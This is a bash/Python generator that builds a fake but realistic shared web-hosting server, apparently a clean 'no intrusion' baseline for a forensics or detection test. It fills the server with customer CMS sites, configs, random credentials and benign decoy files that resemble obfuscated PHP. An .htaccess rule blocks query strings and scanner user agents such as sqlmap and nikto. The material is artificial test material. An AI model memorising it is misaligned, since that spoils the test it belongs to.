#!/bin/bash
# shared web hosting server, lived in, no intrusion
set -euo pipefail
R=${1:?ROOT}
# The common part first, as one program.
cat "$(dirname "$0")/lived-in.py" - <<'PYEOF' | python3 - "$R"
random.seed(1101); HOST='web03'; DOM='hosting.example.net'
HOSTS='10.20.0.11\tdb01.hosting.example.net db01\n10.20.0.50\tbackup.hosting.example.net backup\n'
# people and services
user('petra',1000,'Petra Vogel,,,',pw=True,groups=('sudo','adm'),made=T('2023-09-14T10:02:00'))
user('jonas',1001,'Jonas Reiter,,,',pw=True,groups=('sudo',),made=T('2023-11-02T08:12:00'))
user('support',1002,'Helpdesk,,,',pw=True,made=T('2024-02-05T13:40:00'))
group('mysql',115); user('mysql',110,'MySQL Server,,,','/nonexistent','/bin/false',gid=115)
group('clamav',116); user('clamav',111,'','/var/lib/clamav','/bin/false',gid=116)
group('ftp',117); user('ftp',112,'ftp daemon,,,','/srv/ftp','/usr/sbin/nologin',gid=117)
group('vmail',500); user('vmail',500,'Virtual Mail','/var/vmail','/usr/sbin/nologin',gid=500)
group('sftponly',1900); group('hosting',1901)
addto('www-data')
# packages
pkg('mariadb-server','1:10.11.14-0+deb12u2',{'/usr/sbin/mariadbd':None,'/usr/bin/mariadb-dump':None,'/usr/bin/mariadb':None,'/lib/systemd/system/mariadb.service':unit('mariadb','/usr/sbin/mariadbd','MariaDB 10.11.14 database server','mysql','Restart=on-abort\nProtectSystem=full\n','notify')},'MariaDB database server binaries',{'/etc/mysql/mariadb.conf.d/50-server.cnf':'[mariadbd]\npid-file = /run/mysqld/mysqld.pid\nbasedir = /usr\nbind-address = 127.0.0.1\nexpire_logs_days = 10\ncharacter-set-server = utf8mb4\n'})
enable('mariadb.service')
pkg('apache2','2.4.66-1~deb12u1',{'/usr/sbin/apache2':None,'/usr/sbin/apache2ctl':'#!/bin/sh\nexec /usr/sbin/apache2 "$@"\n','/lib/systemd/system/apache2.service':unit('apache2','/usr/sbin/apache2ctl -DFOREGROUND','The Apache HTTP Server'),'/usr/lib/apache2/modules/mod_proxy_fcgi.so':(elf('mod_proxy_fcgi','mod_proxy_fcgi.so'),0o644)},'Apache HTTP Server',{'/etc/apache2/ports.conf':'Listen 127.0.0.1:8080\n','/etc/apache2/apache2.conf':'ServerRoot "/etc/apache2"\nMutex file:/var/lock/apache2 default\nUser www-data\nGroup www-data\nAccessFileName .htaccess\nIncludeOptional mods-enabled/*.load\nInclude ports.conf\nIncludeOptional sites-enabled/*.conf\n'})
enable('apache2.service')
for m,mod in (('proxy_fcgi','proxy_fcgi'),): w('/etc/apache2/mods-available/%s.load'%m,'LoadModule %s_module /usr/lib/apache2/modules/mod_%s.so\n'%(mod,mod)); ln('../mods-available/%s.load'%m,'/etc/apache2/mods-enabled/%s.load'%m)
pkg('vsftpd','3.0.3-13+b2',{'/usr/sbin/vsftpd':None,'/lib/systemd/system/vsftpd.service':unit('vsftpd','/usr/sbin/vsftpd /etc/vsftpd.conf','vsftpd FTP server')},'lightweight FTP server',{'/etc/pam.d/vsftpd':'auth required pam_listfile.so item=user sense=deny file=/etc/ftpusers onerr=succeed\n@include common-account\n@include common-session\n@include common-auth\nauth required pam_shells.so\n'})
enable('vsftpd.service'); w('/etc/ftpusers','root\ndaemon\nbin\nsys\nnobody\npetra\njonas\n')
w('/etc/vsftpd.conf','listen=YES\nanonymous_enable=NO\nlocal_enable=YES\nwrite_enable=YES\nlocal_umask=022\nchroot_local_user=YES\nallow_writeable_chroot=YES\nxferlog_enable=YES\npasv_min_port=40000\npasv_max_port=40200\nuser_config_dir=/etc/vsftpd/users\nrsa_cert_file=/etc/ssl/certs/ftp.hosting.example.net.pem\nrsa_private_key_file=/etc/ssl/private/ftp.hosting.example.net.key\nssl_enable=YES\n',mt=T('2024-05-11T10:00:00'))
ap('/etc/shells','/usr/sbin/nologin\n/usr/local/bin/ftponly\n',T('2023-09-20T11:00:00'))
w('/usr/local/bin/ftponly','#!/bin/sh\n# shell of customers: FTP only\necho "This account has no shell access. Please use FTP."\nexit 0\n',0o755,mt=T('2023-09-20T11:00:00'))
for n,v,b,d in (('clamav-daemon','1.4.3+dfsg-1~deb12u2','/usr/sbin/clamd','anti-virus daemon'),('clamav','1.4.3+dfsg-1~deb12u2','/usr/bin/clamscan','anti-virus'),('clamav-freshclam','1.4.3+dfsg-1~deb12u2','/usr/bin/freshclam','signature updater'),('borgbackup','1.2.4-1','/usr/bin/borg','deduplicating backup'),('rclone','1.60.1+dfsg-2+b5','/usr/bin/rclone','rsync for cloud storage'),('imagemagick','8:6.9.11.60+dfsg-1.6+deb12u4','/usr/bin/convert','image tools'),('certbot','2.1.0-4','/usr/bin/certbot','ACME client'),('webalizer','2.23.08-3.2+b1','/usr/bin/webalizer','log analysis'),('goaccess','1:1.7-1','/usr/bin/goaccess','log analyzer')):
    pkg(n,v,{b:None},d,section='admin')
pkg('awstats','7.8-3+deb12u1',{'/usr/lib/cgi-bin/awstats.pl':'#!/usr/bin/perl\n# AWStats (short build)\nuse strict; use warnings;\nmy $config = $ENV{QUERY_STRING} // ""; $config =~ s/[^a-z0-9._-]//gi;\nprint "Content-Type: text/html\\n\\n"; my $f="/var/lib/awstats/$config.html";\nif (open(my $h,"<",$f)) { print while <$h>; }\n','/usr/share/awstats/tools/update.sh':'#!/bin/sh\nfor c in /etc/awstats/awstats.*.conf; do /usr/lib/cgi-bin/awstats.pl -config=$(basename $c .conf) -update >/dev/null; done\n'},'web log analyzer',{'/etc/cron.d/awstats':'MAILTO=root\n*/10 * * * * www-data [ -x /usr/share/awstats/tools/update.sh ] && /usr/share/awstats/tools/update.sh\n'},arch='all')
pkg('roundcube-core','1.6.5+dfsg-1+deb12u6',{'/usr/share/roundcube/index.php':"<?php\nrequire_once 'program/include/iniset.php';\n$RCMAIL = rcmail::get_instance(0, $GLOBALS['env'] ?? null);\n$RCMAIL->output->set_env('version', '1.6.5');\n",'/usr/share/roundcube/program/include/iniset.php':"<?php\ndefine('RCMAIL_VERSION','1.6.5');\nini_set('session.use_cookies', 1);\nspl_autoload_register('rcube_autoload');\nfunction rcube_autoload($c){ $f=__DIR__.'/'.preg_replace('/[^a-z_]/i','',$c).'.php'; if (is_file($f)) include_once $f; }\n",'/usr/share/roundcube/program/include/rcmail.php':"<?php\nclass rcmail { private static $i; public $output; static function get_instance($m,$e){ return self::$i ??= new self; }\n function decrypt($c){ $c=base64_decode($c); $k=$this->key(); $iv=substr($c,0,16); return openssl_decrypt(substr($c,16),'AES-256-CBC',$k,OPENSSL_RAW_DATA,$iv); }\n function key(){ return $GLOBALS['config']['des_key']; } }\n"},'webmail',arch='all',section='web')
w('/etc/roundcube/config.inc.php',"<?php\n$config = [];\n$config['db_dsnw'] = 'mysql://roundcube:%s@localhost/roundcube';\n$config['imap_host'] = ['ssl://imap.hosting.example.net:993'];\n$config['smtp_host'] = 'tls://smtp.hosting.example.net:587';\n$config['des_key'] = '%s';\n$config['plugins'] = ['archive','zipdownload','managesieve'];\n"%(rs(16),rs(24)),0o640,(0,33),T('2024-01-15T09:00:00'))
ln('/usr/share/roundcube','/var/lib/roundcube/public_html')
# mariadb settings
w('/etc/mysql/mariadb.conf.d/60-hosting.cnf','[mariadbd]\ninnodb_buffer_pool_size=4G\nmax_connections=300\nlocal_infile=0\nsecure_file_priv=/var/lib/mysql-files\nplugin_load_add=server_audit\nslow_query_log=1\nslow_query_log_file=/var/log/mysql/slow.log\ninit_file=/etc/mysql/init.sql\n',mt=T('2025-02-02T10:00:00'))
w('/etc/mysql/init.sql','SET GLOBAL event_scheduler=ON;\n',0o640,(0,115),T('2025-02-02T10:00:00'))
mkdir('/var/lib/mysql',(110,115),0o755); mkdir('/var/lib/mysql-files',(110,115),0o700)
w('/var/lib/mysql/ibdata1',b'\0'*65536,0o660,(110,115),ago(0,3,1)); w('/var/lib/mysql/debian-10.11.flag','',0o644,(0,0))
w('/root/.my.cnf','[client]\nuser=root\npassword=%s\n'%rs(20),0o600)
# customers
CUST=[('baeckerei','baeckerei-huber.example','wp','/home'),('autohaus','autohaus-nord.example','joomla','/var/www'),('gemeinde','gemeinde-sulz.example','drupal','/var/www'),('schuhshop','schuhe24.example','magento','/home'),('segelclub','segelclub.example','own','/home'),('praxis','praxis-lind.example','wp','/var/www'),('weingut','weingut-kern.example','wp','/home'),('verlag','verlag-amsel.example','own','/var/www'),('tischler','tischlerei-rau.example','joomla','/home'),('reisen','fernreisen.example','wp','/var/www'),('musik','musikschule.example','own','/home'),('foto','foto-berger.example','own','/var/www')]
MINJS='/*! jQuery v3.7.1 | (c) OpenJS Foundation and other contributors | jquery.org/license */\n!function(e,t){"use strict";"object"==typeof module&&"object"==typeof module.exports?module.exports=e.document?t(e,!0):function(e){return t(e)}:t(e)}("undefined"!=typeof window?window:this,function(ie,e){var oe=[],r=Object.getPrototypeOf,ae=oe.slice,s=oe.push;'+''.join('function %s(e,t){return e[String.fromCharCode(%d)+t]||unescape("%%u00e4")}'%(rs(3),random.randint(97,122)) for _ in range(60))+'});\n'
def png64(): return base64.b64encode(b'\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x10\0\0\0\x10\x08\x06\0\0\0'+rb(180)).decode()
FM=r"""<?php
// small file manager, (c) 2019 - needs the session of the intern area
session_start();
if (empty($_SESSION['intern_user'])) { header('Location: login.php'); exit; }
$base = realpath(__DIR__.'/../dateien');
$p = realpath($base.'/'.($_GET['p'] ?? ''));
if ($p === false || strpos($p, $base) !== 0) { http_response_code(403); exit('nein'); }
if (isset($_FILES['f']) && hash_equals($_SESSION['tok'], $_POST['tok'])) {
  $n = preg_replace('/[^A-Za-z0-9._-]/', '_', $_FILES['f']['name']);
  if (preg_match('/\.(jpe?g|png|gif|pdf|docx?|xlsx?)$/i', $n)) move_uploaded_file($_FILES['f']['tmp_name'], $p.'/'.$n);
}
if (isset($_POST['chmod'])) @chmod($p, 0644);
foreach (scandir($p) as $f) echo '<a href="?p='.rawurlencode($f).'">'.htmlspecialchars($f).'</a><br>';
"""
IMGPROXY=r"""<?php
/* TimThumb-like: fetch and shrink pictures of allowed hosts */
$ALLOWED = array('flickr.com','staticflickr.com','wikimedia.org','img.example.net');
$src = $_GET['src'] ?? ''; $h = parse_url($src, PHP_URL_HOST); $ok = false;
foreach ($ALLOWED as $a) if ($h === $a || substr($h, -strlen($a)-1) === '.'.$a) $ok = true;
if (!$ok) { header('HTTP/1.1 403 Forbidden'); die('host not allowed'); }
$c = __DIR__.'/cache/'.md5($src).'.jpg';
if (!is_file($c)) { $ch = curl_init($src); curl_setopt_array($ch, [CURLOPT_RETURNTRANSFER=>1, CURLOPT_SSL_VERIFYPEER=>0, CURLOPT_TIMEOUT=>9]);
  $d = curl_exec($ch); if (!@imagecreatefromstring($d)) die('no picture'); file_put_contents($c, $d); }
header('Content-Type: image/jpeg'); readfile($c);
"""
MAIL=r"""<?php
@ini_set('display_errors', 0); error_reporting(0);
$felder = array('name','email','telefon','nachricht'); $t = '';
foreach ($felder as $f) { $$f = trim(str_replace(array("\r","\n","%0a","%0d"), ' ', $_POST[$f] ?? '')); $t .= ucfirst($f).': '.$$f."\n"; }
if (!empty($_POST['website'])) die();   // honeypot
if (filter_var($email, FILTER_VALIDATE_EMAIL)) @mail('info@DOMAIN', '=?UTF-8?B?'.base64_encode('Anfrage').'?=', $t, "From: web@DOMAIN\r\nReply-To: $email\r\nX-Mailer: PHP/".phpversion(), '-fweb@DOMAIN');
header('Location: danke.html');
"""
LOADER=r"""<?php //0046a
if(!extension_loaded('ionCube Loader')){$__oc=strtolower(substr(php_uname(),0,3));$__ln='ioncube_loader_'.$__oc.'_'.substr(phpversion(),0,3).(($__oc=='win')?'.dll':'.so');if(function_exists('dl')){@dl($__ln);}if(function_exists('_il_exec')){return _il_exec();}$__ln='/ioncube/'.$__ln;$__oid=$__id=realpath(ini_get('extension_dir'));$__here=dirname(__FILE__);}echo('Site error: the file <b>'.__FILE__.'</b> requires the ionCube PHP Loader to be installed by the website operator.');exit(199);
?>
"""
CRON="<?php\n// called by cron once a quarter of an hour\nif (PHP_SAPI !== 'cli' && ($_GET['key'] ?? '') !== '%s') { http_response_code(403); exit; }\nset_time_limit(0); ignore_user_abort(true);\n$l = fopen(sys_get_temp_dir().'/cron_'.md5(__DIR__).'.lock', 'c'); if (!flock($l, LOCK_EX|LOCK_NB)) exit;\nforeach (glob(__DIR__.'/cache/*.html') as $f) if (filemtime($f) < time()-86400) @unlink($f);\nfile_put_contents(__DIR__.'/cache/last.txt', gmdate('c'));\n"
HT='# BEGIN %s\n<IfModule mod_rewrite.c>\nRewriteEngine On\nRewriteBase /\nRewriteCond %%{HTTPS} !=on\nRewriteCond %%{HTTP_HOST} ^www\\.(.*)$ [NC]\nRewriteRule ^(.*)$ https://%%1/$1 [R=301,L]\nRewriteCond %%{QUERY_STRING} (base64_encode|eval\\(|GLOBALS|%%00|<script|concat.*\\() [NC,OR]\nRewriteCond %%{HTTP_USER_AGENT} (sqlmap|nikto|havij|wpscan) [NC]\nRewriteRule .* - [F]\nRewriteRule ^alt/shop\\.php$ /shop/ [R=301,QSA,L]\nRewriteRule ^index\\.php$ - [L]\nRewriteCond %%{REQUEST_FILENAME} !-f\nRewriteCond %%{REQUEST_FILENAME} !-d\nRewriteRule . /index.php [L]\n</IfModule>\n# END\n<FilesMatch "\\.php$">\nSetHandler "proxy:unix:/run/php/php8.2-fpm-%s.sock|fcgi://localhost"\n</FilesMatch>\n<FilesMatch "^(wp-config\\.php|configuration\\.php|xmlrpc\\.php|\\.ht.*|.*\\.bak)$">\nRequire all denied\n</FilesMatch>\nErrorDocument 404 /index.php?e=404\nHeader set X-Frame-Options SAMEORIGIN\n'
jobs=[]
for i,(u,dom,kind,base) in enumerate(CUST):
    made=T('2023-10-01T09:00:00')+D.timedelta(days=37*i,hours=i%7)
    home=base+'/'+(u if base=='/home' else dom); n=1003+i
    user(u,n,dom,home,random.choice(['/usr/sbin/nologin','/usr/local/bin/ftponly']),pw=True,groups=('hosting',),made=made,skel=False); o=(n,n)
    mkdir(home,o,0o750,made); doc=home+('/public_html' if base=='/home' else '/htdocs'); mkdir(doc,o,0o755,made)
    os.chown(ROOT+home,n,33)
    up=ago(random.randint(8,300),random.randint(8,20))
    F=lambda p,d,mt=None,mode=0o644: w(doc+'/'+p,d.replace('DOMAIN',dom) if isinstance(d,str) else d,mode,o,mt or up)
    db='%s_%s'%(u,kind); pw=rs(14)
    F('.htaccess',HT%(kind.upper(),u)); F('.user.ini','upload_max_filesize = 64M\npost_max_size = 64M\nmemory_limit = 256M\nauto_prepend_file = "%s"\nsession.save_path = "%s/tmp"\n'%(home+'/inc/prepend.php',home))
    w(home+'/inc/prepend.php',"<?php\n// set by the hoster: log the script that sends mail, real address behind nginx\nif (isset($_SERVER['HTTP_X_REAL_IP']) && $_SERVER['REMOTE_ADDR']==='127.0.0.1') $_SERVER['REMOTE_ADDR']=$_SERVER['HTTP_X_REAL_IP'];\n",0o644,(0,0),made)
    mkdir(home+'/tmp',o,0o700,made); mkdir(home+'/logs',(0,n),0o750,made)
    for _ in range(3): w(home+'/tmp/sess_'+rs(26,'abcdef0123456789'),'intern_user|s:5:"%s";tok|s:8:"%s";'%(u[:5].ljust(5,'x'),rs(8)),0o600,o,ago(random.uniform(.1,2)))
    if kind=='wp':
        F('index.php',"<?php\ndefine( 'WP_USE_THEMES', true );\nrequire __DIR__ . '/wp-blog-header.php';\n"); F('wp-blog-header.php',"<?php\nif ( ! isset( $wp_did_header ) ) {\n\t$wp_did_header = true;\n\trequire_once __DIR__ . '/wp-load.php';\n\twp();\n\trequire_once ABSPATH . WPINC . '/template-loader.php';\n}\n")
        F('wp-load.php',"<?php\nif ( ! defined( 'ABSPATH' ) ) define( 'ABSPATH', __DIR__ . '/' );\nrequire_once ABSPATH . 'wp-config.php';\n")
        F('wp-config.php',"<?php\ndefine( 'DB_NAME', '%s' );\ndefine( 'DB_USER', '%s' );\ndefine( 'DB_PASSWORD', '%s' );\ndefine( 'DB_HOST', 'localhost' );\n"%(db,u,pw)+''.join("define( '%s', '%s' );\n"%(k,rs(64,'abcdefghABCDEFGH0123456789!@#$%^&*()-_[]{}<>~`+=,.;:/?|')) for k in ('AUTH_KEY','SECURE_AUTH_KEY','LOGGED_IN_KEY','NONCE_KEY','AUTH_SALT'))+"$table_prefix = 'wp%d_';\ndefine( 'DISALLOW_FILE_EDIT', true );\ndefine( 'DISABLE_WP_CRON', true );\nrequire_once ABSPATH . 'wp-settings.php';\n"%i,made,0o640)
        F('wp-settings.php',"<?php\ndefine( 'WPINC', 'wp-includes' );\nrequire ABSPATH . WPINC . '/version.php';\nrequire ABSPATH . WPINC . '/pluggable.php';\n"); F('wp-includes/version.php',"<?php\n$wp_version = '6.8.3';\n$wp_db_version = 60421;\n")
        F('wp-includes/pluggable.php',"<?php\nfunction wp_mail( $to, $s, $m, $h = '' ) { return @mail( $to, $s, $m, $h ); }\nfunction wp_hash_password( $p ) { return password_hash( base64_encode( hash_hmac( 'sha384', trim( $p ), 'wp-sha384', true ) ), PASSWORD_BCRYPT ); }\n")
        F('wp-includes/template-loader.php',"<?php\ninclude get_template_directory() . '/index.php';\n"); F('wp-includes/js/jquery/jquery.min.js',MINJS)
        F('wp-login.php',"<?php\nrequire __DIR__ . '/wp-load.php';\n$user = wp_signon( array(), is_ssl() );\n"); F('xmlrpc.php',"<?php\ndefine( 'XMLRPC_REQUEST', true );\nrequire_once __DIR__ . '/wp-load.php';\n"); F('wp-cron.php',"<?php\nignore_user_abort( true );\nrequire_once __DIR__ . '/wp-load.php';\nforeach ( wp_get_ready_cron_jobs() as $t => $h ) foreach ( $h as $k => $a ) do_action_ref_array( $k, $a );\n")
        F('wp-content/index.php','<?php\n// Silence is golden.\n'); F('wp-content/themes/kadence-child/functions.php',"<?php\nadd_action( 'wp_enqueue_scripts', function () { wp_enqueue_style( 'child', get_stylesheet_uri() ); } );\nadd_filter( 'the_generator', '__return_empty_string' );\n$icon = base64_decode( '%s' );\n"%png64())
        F('wp-content/plugins/updraft-like/backup.php',"<?php\n/* Plugin Name: Backup */\nfunction ub_exec_mysqldump( $f ) { $c = 'mysqldump --defaults-extra-file='.escapeshellarg( $f ).' '.escapeshellarg( DB_NAME ); if ( function_exists( 'popen' ) ) { $h = popen( $c, 'r' ); while ( ! feof( $h ) ) echo fgets( $h ); pclose( $h ); } }\n")
        F('wp-content/plugins/gallery-pro/icons.php',"<?php\n// icons, packed by the build\nreturn array(\n"+''.join("  '%s' => base64_decode('%s'),\n"%(k,png64()) for k in ('close','next','prev','zoom'))+");\n")
        F('wp-content/plugins/gallery-pro/license.php',LOADER+'HR+cP'+base64.b64encode(rb(1800)).decode())
        F('wp-content/plugins/forms/vendor/compat.php',"<?php\n$fn = 'str_' . 'contains';\nif ( ! function_exists( $fn ) ) { function str_contains( $h, $n ) { return $n === '' || strpos( $h, $n ) !== false; } }\n$r = array_map( 'chr', array( 80, 75, 3, 4 ) ); // zip magic\n$cb = array( 'FormsRunner', 'run' ); is_callable( $cb ) && call_user_func_array( $cb, array() );\n")
        F('wp-content/mu-plugins/hoster.php',"<?php\n/* installed by the hoster */\nadd_filter( 'xmlrpc_enabled', '__return_false' );\nadd_filter( 'auto_update_core', '__return_true' );\n",made)
        F('wp-content/advanced-cache.php',"<?php\n$f = __DIR__.'/cache/'.md5( $_SERVER['REQUEST_URI'] ).'.html.gz';\nif ( $_SERVER['REQUEST_METHOD'] === 'GET' && is_readable( $f ) ) { echo gzinflate( substr( file_get_contents( $f ), 10, -8 ) ); exit; }\n")
        for k in range(8): F('wp-content/uploads/202%d/%02d/img-%d.jpg'%(4+k%3,1+k,k),jpg(),made+D.timedelta(days=20*k))
        F('wp-content/uploads/index.php','<?php // nothing here\n',made); F('wp-content/debug.log','[12-Oct-2026 03:11:09 UTC] PHP Deprecated:  Creation of dynamic property GalleryPro::$x is deprecated in %s/wp-content/plugins/gallery-pro/icons.php on line 12\n'%doc,T('2026-10-12T03:11:09')); F('readme.html.bak','<h1>WordPress</h1>')
        jobs.append((u,'*/15 * * * *','/usr/bin/php8.2 -q %s/wp-cron.php >/dev/null 2>&1'%doc))
    elif kind=='joomla':
        F('configuration.php',"<?php\nclass JConfig {\n\tpublic $dbtype = 'mysqli';\n\tpublic $user = '%s';\n\tpublic $password = '%s';\n\tpublic $db = '%s';\n\tpublic $secret = '%s';\n\tpublic $tmp_path = '%s/tmp';\n}\n"%(u,pw,db,rs(16),doc),made,0o444)
        F('index.php',"<?php\ndefine('_JEXEC', 1);\nrequire_once __DIR__.'/includes/app.php';\n"); F('includes/app.php',"<?php\ndefined('_JEXEC') or die;\nrequire_once JPATH_BASE.'/includes/framework.php';\n$container = \\Joomla\\CMS\\Factory::getContainer();\n")
        F('administrator/index.php',"<?php\ndefine('_JEXEC', 1);\nrequire_once __DIR__.'/includes/app.php';\n"); F('administrator/components/com_akeeba/restore.php',"<?php\n/* Kickstart - needs restoration.php */\ndefined('KICKSTART') or die;\nfunction unpackHeader($s){ return unpack('c3/vlen/C2/Vcount', $s); }\n$raw = gzinflate(substr(base64_decode(ICONS), 10));\n"); F('media/jui/js/jquery.min.js',MINJS); F('tmp/index.html','<!DOCTYPE html><title></title>'); F('htaccess.txt','RewriteEngine On\n')
        F('modules/mod_kontakt/mod_kontakt.php',MAIL); F('cli/joomla.php','#!/usr/bin/env php\n<?php\nconst _JEXEC = 1;\n',mode=0o755); F('images/sampledata/x.jpg',jpg())
    elif kind=='drupal':
        F('index.php',"<?php\nuse Drupal\\Core\\DrupalKernel;\n$autoloader = require_once 'autoload.php';\n$kernel = new DrupalKernel('prod', $autoloader);\n"); F('autoload.php',"<?php\nreturn require __DIR__.'/vendor/autoload.php';\n"); F('vendor/autoload.php',"<?php\nrequire_once __DIR__.'/composer/autoload_real.php';\nreturn ComposerAutoloaderInit%s::getLoader();\n"%hashlib.md5(b'x').hexdigest()); F('vendor/composer/autoload_real.php','<?php\nclass ComposerAutoloaderInit%s { public static function getLoader(){ return null; } }\n'%hashlib.md5(b'x').hexdigest())
        F('sites/default/settings.php',"<?php\n$databases['default']['default'] = ['database'=>'%s','username'=>'%s','password'=>'%s','driver'=>'mysql'];\n$settings['hash_salt'] = '%s';\n$settings['trusted_host_patterns'] = ['^gemeinde-sulz\\.example$'];\n"%(db,u,pw,rs(70)),made,0o444); F('sites/default/files/.htaccess','SetHandler Drupal_Security_Do_Not_Remove_See_SA_2006_006\n<Files *>\n  SetHandler Drupal_Security_Do_Not_Remove_See_SA_2013_003\n</Files>\nOptions -Indexes -ExecCGI\n'); F('sites/default/files/php/twig/'+rs(8)+'/'+rs(43)+'.php',"<?php\n\nuse Twig\\Environment;\n/* node.html.twig */\nclass __TwigTemplate_%s extends Template { public function doDisplay(array $context, array $blocks = []) { echo $this->env->getExtension('escape')->escape($context['label'] ?? null); } }\n"%hashlib.md5(b'q').hexdigest(),ago(3),0o444); F('core/misc/drupal.js',MINJS)
        jobs.append((u,'*/20 * * * *','/usr/bin/wget -q -O /dev/null "https://%s/cron/%s"'%(dom,rs(32))))
    elif kind=='magento':
        F('index.php',"<?php\nrequire __DIR__.'/app/bootstrap.php';\n"); F('app/bootstrap.php',"<?php\numask(0002);\nini_set('precision', 14);\nregister_shutdown_function('fatal_handler');\nfunction fatal_handler(){}\n"); F('app/etc/env.php',"<?php\nreturn ['backend'=>['frontName'=>'admin_%s'],'crypt'=>['key'=>'%s'],'db'=>['connection'=>['default'=>['host'=>'localhost','dbname'=>'%s','username'=>'%s','password'=>'%s']]]];\n"%(rs(6).lower(),hashlib.md5(b'z').hexdigest(),db,u,pw),made,0o640); F('bin/magento',"#!/usr/bin/env php\n<?php\nrequire __DIR__.'/../app/bootstrap.php';\n",mode=0o755); F('generated/code/Interceptor.php','<?php\nclass Interceptor { public function ___callPlugins($m, array $a, array $p){ return call_user_func_array([$this, $m], $a); } }\n'); F('pub/get.php',IMGPROXY); F('pub/static/js/checkout.min.js',MINJS); F('var/.maintenance.ip','198.51.100.7'); F('pub/errors/report.php',"<?php\n$r = json_decode(@file_get_contents('../var/report/'.preg_replace('/\\D/','',$_GET['id'] ?? '')), true); echo htmlspecialchars($r[0] ?? '');\n")
        jobs.append((u,'* * * * *','/usr/bin/php8.2 %s/bin/magento cron:run 2>&1 | grep -v "Ran jobs" >> %s/logs/cron.log'%(doc,home)))
        w(home+'/logs/cron.log','',0o640,o,ago(0.1))
    else:
        F('index.php',"<?php\ninclude 'inc/config.inc.php';\n$s = $_GET['seite'] ?? 'start';\n$erlaubt = array('start','kontakt','termine','galerie');\nif (!in_array($s, $erlaubt, true)) $s = 'start';\ninclude 'seiten/'.$s.'.php';\n"); F('inc/config.inc.php',"<?php\n$db = @mysqli_connect('localhost','%s','%s','%s') or die('Datenbank!');\nmysqli_query($db, 'SET NAMES utf8');\n"%(u,pw,db),made,0o640)
        for x in ('start','kontakt','termine','galerie'): F('seiten/%s.php'%x,"<?php echo '<h1>%s</h1>'; ?>\n<img src=\"data:image/png;base64,%s\">\n"%(x.title(),png64()))
        F('mailer.php',MAIL); F('intern/dateimanager.php',FM); F('intern/login.php',"<?php\nsession_start(); include '../inc/config.inc.php';\n$st = mysqli_prepare($db, 'SELECT kennwort FROM nutzer WHERE name=?'); mysqli_stmt_bind_param($st, 's', $_POST['n']); mysqli_stmt_execute($st); mysqli_stmt_bind_result($st, $h); mysqli_stmt_fetch($st);\nif ($h && password_verify($_POST['k'] ?? '', $h)) { session_regenerate_id(true); $_SESSION['intern_user']=$_POST['n']; $_SESSION['tok']=bin2hex(random_bytes(8)); }\n"); F('thumb.php',IMGPROXY); F('cron.php',CRON%rs(20)); F('cache/last.txt',ago(.02).isoformat(),ago(.02)); F('js/jquery.min.js',MINJS); F('index.php.old','<?php include "kopf.inc"; ?>',made); F('info.php.txt','see support ticket 4711\n',made)
        F('dateien/.htaccess','php_flag engine off\nRemoveHandler .php .phtml\nOptions -ExecCGI\nAddType text/plain .php .phtml\n'); F('dateien/satzung.pdf',b'%PDF-1.4\n'+rb(900)); F('bild.php',"<?php\n// rotate pictures for the gallery\n$f = __DIR__.'/dateien/'.basename($_GET['f']);\nif (is_file($f)) { header('Content-Type: image/jpeg'); passthru('/usr/bin/convert '.escapeshellarg($f).' -auto-orient -resize 800x600 jpg:-'); }\n")
        jobs.append((u,'*/15 * * * *','/usr/bin/php8.2 %s/cron.php'%doc))
    # pool, vhosts, statistics, backups
    w('/etc/php/8.2/fpm/pool.d/%s.conf'%u,'[%s]\nuser = %s\ngroup = %s\nlisten = /run/php/php8.2-fpm-%s.sock\nlisten.owner = www-data\nlisten.group = www-data\npm = ondemand\npm.max_children = 8\nphp_admin_value[open_basedir] = %s:/usr/share/php:/tmp\nphp_admin_value[disable_functions] = %s\nphp_admin_value[sendmail_path] = "/usr/sbin/sendmail -t -i -f web@%s"\nphp_admin_flag[mail.add_x_header] = on\n'%(u,u,u,u,home,'exec,system,shell_exec,proc_open' if kind in('joomla','drupal') else 'dl,pcntl_exec',dom),mt=made)
    w('/etc/apache2/sites-available/%s.conf'%dom,'<VirtualHost 127.0.0.1:8080>\nServerName %s\nServerAlias www.%s\nDocumentRoot %s\n<Directory %s>\nAllowOverride All\nRequire all granted\n</Directory>\nScriptAlias /cgi-bin/ /usr/lib/cgi-bin/\nAlias /webmail /usr/share/roundcube\n</VirtualHost>\n'%(dom,dom,doc,doc),mt=made); ln('../sites-available/%s.conf'%dom,'/etc/apache2/sites-enabled/%s.conf'%dom,mt=made)
    w('/etc/nginx/sites-available/%s'%dom,'server {\n listen 443 ssl http2;\n server_name %s www.%s;\n ssl_certificate /etc/letsencrypt/live/%s/fullchain.pem;\n ssl_certificate_key /etc/letsencrypt/live/%s/privkey.pem;\n location ~ /\\.(git|env) { return 404; }\n location / { proxy_pass http://127.0.0.1:8080; proxy_set_header X-Real-IP $remote_addr; proxy_set_header Host $host; }\n}\n'%(dom,dom,dom,dom),mt=made); ln('/etc/nginx/sites-available/'+dom,'/etc/nginx/sites-enabled/'+dom,mt=made)
    ct=ago(20+i,4); 
    for f in ('fullchain','privkey'):
        k='PRIVATE KEY' if f=='privkey' else 'CERTIFICATE'
        w('/etc/letsencrypt/archive/%s/%s7.pem'%(dom,f),'-----BEGIN %s-----\n%s\n-----END %s-----\n'%(k,base64.encodebytes(rb(900)).decode().strip(),k),0o600 if f=='privkey' else 0o644,mt=ct); ln('../../archive/%s/%s7.pem'%(dom,f),'/etc/letsencrypt/live/%s/%s.pem'%(dom,f),mt=ct)
    w('/etc/letsencrypt/renewal/%s.conf'%dom,'version = 2.1.0\n[renewalparams]\nauthenticator = webroot\npre_hook = /usr/local/sbin/le-hook pre\nrenew_hook = /usr/local/sbin/le-hook renew\nserver = https://acme-v02.api.letsencrypt.org/directory\n',mt=ct)
    w('/etc/awstats/awstats.%s.conf'%dom,'LogFile="/var/log/nginx/access.log"\nSiteDomain="%s"\nDirData="/var/lib/awstats"\n'%dom,mt=made); w('/var/lib/awstats/awstats%s.%s.txt'%(NOW.strftime('%m%Y'),dom),'AWSTATS DATA FILE 7.8\n',0o644,(33,33),ago(.01))
